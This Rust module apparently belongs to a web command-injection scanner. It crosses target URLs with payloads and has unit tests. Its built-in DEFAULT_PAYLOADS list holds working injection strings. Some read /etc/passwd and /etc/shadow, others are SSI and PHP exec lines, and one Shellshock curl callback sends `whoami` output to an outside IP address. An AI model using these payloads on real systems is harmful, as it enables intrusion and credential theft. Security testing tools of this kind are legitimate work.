use crate::work::WorkItem;
use std::collections::HashSet;
use std::fs::File;
use std::io::{BufRead, BufReader, Read};
use std::path::PathBuf;
use thiserror::Error;
use tracing::{debug, warn};

/// Built-in payload list used when no payload file or literal is supplied.
pub const DEFAULT_PAYLOADS: &[&str] = &[
    "<!--#exec%20cmd=\"/bin/cat%20/etc/passwd\"-->",
    "<!--#exec%20cmd=\"/bin/cat%20/etc/shadow\"-->",
    "<!--#exec%20cmd=\"/usr/bin/id;-->",
    "/index.html|id|",
    ";id;",
    ";netstat -a;",
    ";system('cat%20/etc/passwd')",
    "|id",
    "|/usr/bin/id",
    "\\n/bin/ls -al\\n",
    "\\n/usr/bin/id\\n",
    "`id`",
    "`/usr/bin/id`",
    "a);id",
    "a;/usr/bin/id",
    ";system('id')",
    "%0Acat%20/etc/passwd",
    "%0A/usr/bin/id",
    "& ping -i 30 127.0.0.1 &",
    "`ping 127.0.0.1`",
    "() { :;}; /bin/bash -c \"curl http://135.23.158.130/.testing/shellshock.txt?vuln=16?user=\\`whoami\\`\"",
    "() { :;}; /bin/bash -c \"sleep 1 && echo vulnerable 1\"",
    "cat /etc/hosts",
    "$(`cat /etc/passwd`)",
    "<?php system(\"cat /etc/passwd\");?>",
];

/// Errors raised while turning input sources into the work item set.
#[derive(Error, Debug)]
pub enum EnumerateError {
    /// No URL file, no literal URL, and no piped input were supplied.
    /// This is fatal before any scheduling happens.
    #[error("no URL source provided (expected a file, a literal URL, or piped input)")]
    NoUrlSource,

    /// An input source exists but could not be read.
    #[error("failed to read {path:?}: {source}")]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// Where target URLs come from.
#[derive(Debug, Clone)]
pub enum UrlSource {
    File(PathBuf),
    Literal(String),
    /// Newline-delimited URLs read from standard input. Only meaningful when
    /// stdin is not a terminal; the CLI decides whether to select this.
    Stdin,
}

/// Where payloads come from. Falls back to [`DEFAULT_PAYLOADS`].
#[derive(Debug, Clone, Default)]
pub enum PayloadSource {
    File(PathBuf),
    Literal(String),
    #[default]
    Defaults,
}

impl UrlSource {
    /// Picks the URL source in priority order: explicit file, literal URL,
    /// piped stdin. With none of the three available there is nothing to
    /// probe and the run must abort before scheduling.
    pub fn select(
        file: Option<PathBuf>,
        literal: Option<String>,
        stdin_is_piped: bool,
    ) -> Result<Self, EnumerateError> {
        if let Some(path) = file {
            Ok(UrlSource::File(path))
        } else if let Some(url) = literal {
            Ok(UrlSource::Literal(url))
        } else if stdin_is_piped {
            Ok(UrlSource::Stdin)
        } else {
            Err(EnumerateError::NoUrlSource)
        }
    }
}

impl PayloadSource {
    /// Picks the payload source: explicit file, literal payload, or the
    /// built-in default list.
    pub fn select(file: Option<PathBuf>, literal: Option<String>) -> Self {
        if let Some(path) = file {
            PayloadSource::File(path)
        } else if let Some(payload) = literal {
            PayloadSource::Literal(payload)
        } else {
            PayloadSource::Defaults
        }
    }
}

/// The enumerated work set plus counters about what was filtered out.
#[derive(Debug)]
pub struct Enumeration {
    /// Deduplicated (URL x payload) cross product, stable first-seen order.
    pub items: Vec<WorkItem>,
    /// Input lines that were non-empty but failed URL validation.
    pub skipped_urls: usize,
    /// Items dropped because their identity was already terminal in the
    /// state store (resume).
    pub excluded: usize,
}

/// A target must be an absolute http(s) URL carrying at least one query
/// parameter, otherwise the substitution tool has nothing to rewrite.
pub fn is_probe_url(candidate: &str) -> bool {
    match url::Url::parse(candidate) {
        Ok(parsed) => {
            matches!(parsed.scheme(), "http" | "https") && parsed.query_pairs().count() > 0
        }
        Err(_) => false,
    }
}

/// Produces the ordered, deduplicated work item set for one run.
///
/// URLs and payloads are each deduplicated in first-seen order before the
/// cross product is taken, so the result never contains two items with equal
/// identity. Identities present in `exclude` (already terminal under resume)
/// are dropped and counted.
pub fn enumerate(
    urls: &UrlSource,
    payloads: &PayloadSource,
    max_urls: Option<usize>,
    exclude: &HashSet<String>,
) -> Result<Enumeration, EnumerateError> {
    enumerate_with_stdin(urls, payloads, max_urls, exclude, std::io::stdin().lock())
}

/// Same as [`enumerate`], with the piped-input reader injectable for tests.
pub fn enumerate_with_stdin<R: Read>(
    urls: &UrlSource,
    payloads: &PayloadSource,
    max_urls: Option<usize>,
    exclude: &HashSet<String>,
    stdin: R,
) -> Result<Enumeration, EnumerateError> {
    let mut skipped = 0usize;
    let mut url_list = match urls {
        UrlSource::Literal(single) => {
            if is_probe_url(single) {
                vec![single.clone()]
            } else {
                skipped += 1;
                Vec::new()
            }
        }
        UrlSource::File(path) => {
            let file = File::open(path).map_err(|e| EnumerateError::Io {
                path: path.clone(),
                source: e,
            })?;
            collect_urls(BufReader::new(file), &mut skipped)?
        }
        UrlSource::Stdin => collect_urls(BufReader::new(stdin), &mut skipped)?,
    };

    dedup_in_order(&mut url_list);
    if let Some(cap) = max_urls {
        url_list.truncate(cap);
    }
    debug!(
        urls = url_list.len(),
        skipped, "target URLs loaded and deduplicated"
    );

    let mut payload_list = match payloads {
        PayloadSource::Literal(single) => vec![single.clone()],
        PayloadSource::File(path) => {
            let file = File::open(path).map_err(|e| EnumerateError::Io {
                path: path.clone(),
                source: e,
            })?;
            let mut lines = Vec::new();
            for line in BufReader::new(file).lines() {
                let line = line.map_err(|e| EnumerateError::Io {
                    path: path.clone(),
                    source: e,
                })?;
                let trimmed = line.trim();
                if !trimmed.is_empty() {
                    lines.push(trimmed.to_string());
                }
            }
            lines
        }
        PayloadSource::Defaults => DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect(),
    };
    dedup_in_order(&mut payload_list);

    let mut items = Vec::with_capacity(url_list.len() * payload_list.len());
    let mut seen_identities = HashSet::new();
    let mut excluded = 0usize;
    for url in &url_list {
        for payload in &payload_list {
            let item = WorkItem::new(url.clone(), payload.clone());
            if exclude.contains(&item.identity) {
                excluded += 1;
                continue;
            }
            if seen_identities.insert(item.identity.clone()) {
                items.push(item);
            }
        }
    }

    if excluded > 0 {
        debug!(excluded, "work items skipped as already processed");
    }

    Ok(Enumeration {
        items,
        skipped_urls: skipped,
        excluded,
    })
}

fn collect_urls<R: BufRead>(reader: R, skipped: &mut usize) -> Result<Vec<String>, EnumerateError> {
    let mut urls = Vec::new();
    for line in reader.lines() {
        let line = line.map_err(|e| EnumerateError::Io {
            path: PathBuf::from("<stream>"),
            source: e,
        })?;
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        if is_probe_url(trimmed) {
            urls.push(trimmed.to_string());
        } else {
            warn!(line = trimmed, "skipping malformed target URL");
            *skipped += 1;
        }
    }
    Ok(urls)
}

fn dedup_in_order(values: &mut Vec<String>) {
    let mut seen = HashSet::new();
    values.retain(|v| seen.insert(v.clone()));
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use tempfile::tempdir;

    fn no_exclusions() -> HashSet<String> {
        HashSet::new()
    }

    #[test]
    fn literal_url_and_payload_yield_one_item() {
        let result = enumerate(
            &UrlSource::Literal("http://example.com/a?id=1".to_string()),
            &PayloadSource::Literal(";id;".to_string()),
            None,
            &no_exclusions(),
        )
        .unwrap();
        assert_eq!(result.items.len(), 1);
        assert_eq!(result.items[0].url, "http://example.com/a?id=1");
        assert_eq!(result.items[0].payload, ";id;");
    }

    #[test]
    fn urls_without_query_parameters_are_rejected() {
        assert!(is_probe_url("http://example.com/a?id=1"));
        assert!(is_probe_url("https://example.com/?q=x&r=y"));
        assert!(!is_probe_url("http://example.com/a"));
        assert!(!is_probe_url("ftp://example.com/a?id=1"));
        assert!(!is_probe_url("not a url"));
        assert!(!is_probe_url("/relative/path?x=1"));
    }

    #[test]
    fn malformed_lines_are_skipped_and_counted_not_fatal() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("urls.txt");
        let mut f = File::create(&path).unwrap();
        writeln!(f, "http://example.com/a?id=1").unwrap();
        writeln!(f, "garbage line").unwrap();
        writeln!(f, "http://example.com/no-query").unwrap();
        writeln!(f).unwrap();
        writeln!(f, "http://example.com/b?id=2").unwrap();
        drop(f);

        let result = enumerate(
            &UrlSource::File(path),
            &PayloadSource::Literal("x".to_string()),
            None,
            &no_exclusions(),
        )
        .unwrap();
        assert_eq!(result.items.len(), 2);
        assert_eq!(result.skipped_urls, 2);
    }

    #[test]
    fn cross_product_contains_no_duplicate_identities() {
        let dir = tempdir().unwrap();
        let url_path = dir.path().join("urls.txt");
        let mut f = File::create(&url_path).unwrap();
        for i in 0..5 {
            writeln!(f, "http://example.com/p?id={i}").unwrap();
        }
        // Duplicate line must not double the work set.
        writeln!(f, "http://example.com/p?id=0").unwrap();
        drop(f);

        let payload_path = dir.path().join("payloads.txt");
        let mut f = File::create(&payload_path).unwrap();
        for p in [";id;", "|id", ";id;"] {
            writeln!(f, "{p}").unwrap();
        }
        drop(f);

        let result = enumerate(
            &UrlSource::File(url_path),
            &PayloadSource::File(payload_path),
            None,
            &no_exclusions(),
        )
        .unwrap();
        assert_eq!(result.items.len(), 5 * 2);
        let identities: HashSet<_> = result.items.iter().map(|i| i.identity.clone()).collect();
        assert_eq!(identities.len(), result.items.len());
    }

    #[test]
    fn enumeration_order_is_stable_across_runs() {
        let source = UrlSource::Literal("http://example.com/a?id=1".to_string());
        let first = enumerate(&source, &PayloadSource::Defaults, None, &no_exclusions()).unwrap();
        let second = enumerate(&source, &PayloadSource::Defaults, None, &no_exclusions()).unwrap();
        assert_eq!(first.items, second.items);
        assert_eq!(first.items.len(), DEFAULT_PAYLOADS.len());
    }

    #[test]
    fn excluded_identities_are_dropped_and_counted() {
        let source = UrlSource::Literal("http://example.com/a?id=1".to_string());
        let all = enumerate(&source, &PayloadSource::Defaults, None, &no_exclusions()).unwrap();

        let exclude: HashSet<String> = all
            .items
            .iter()
            .take(3)
            .map(|i| i.identity.clone())
            .collect();
        let filtered = enumerate(&source, &PayloadSource::Defaults, None, &exclude).unwrap();
        assert_eq!(filtered.excluded, 3);
        assert_eq!(filtered.items.len(), all.items.len() - 3);
        for item in &filtered.items {
            assert!(!exclude.contains(&item.identity));
        }
    }

    #[test]
    fn stdin_source_reads_piped_lines() {
        let piped = b"http://example.com/a?id=1\nnot-a-url\n".to_vec();
        let result = enumerate_with_stdin(
            &UrlSource::Stdin,
            &PayloadSource::Literal("x".to_string()),
            None,
            &no_exclusions(),
            &piped[..],
        )
        .unwrap();
        assert_eq!(result.items.len(), 1);
        assert_eq!(result.skipped_urls, 1);
    }

    #[test]
    fn max_urls_caps_after_dedup() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("urls.txt");
        let mut f = File::create(&path).unwrap();
        for i in 0..10 {
            writeln!(f, "http://example.com/p?id={i}").unwrap();
        }
        drop(f);

        let result = enumerate(
            &UrlSource::File(path),
            &PayloadSource::Literal("x".to_string()),
            Some(3),
            &no_exclusions(),
        )
        .unwrap();
        assert_eq!(result.items.len(), 3);
    }

    #[test]
    fn absent_url_sources_are_a_configuration_error() {
        let result = UrlSource::select(None, None, false);
        assert!(matches!(result, Err(EnumerateError::NoUrlSource)));

        let literal = UrlSource::select(None, Some("http://e.com/?a=1".to_string()), false);
        assert!(matches!(literal, Ok(UrlSource::Literal(_))));

        let piped = UrlSource::select(None, None, true);
        assert!(matches!(piped, Ok(UrlSource::Stdin)));
    }

    #[test]
    fn missing_url_file_is_an_io_error() {
        let result = enumerate(
            &UrlSource::File(PathBuf::from("/definitely/not/here.txt")),
            &PayloadSource::Defaults,
            None,
            &no_exclusions(),
        );
        assert!(matches!(result, Err(EnumerateError::Io { .. })));
    }
}
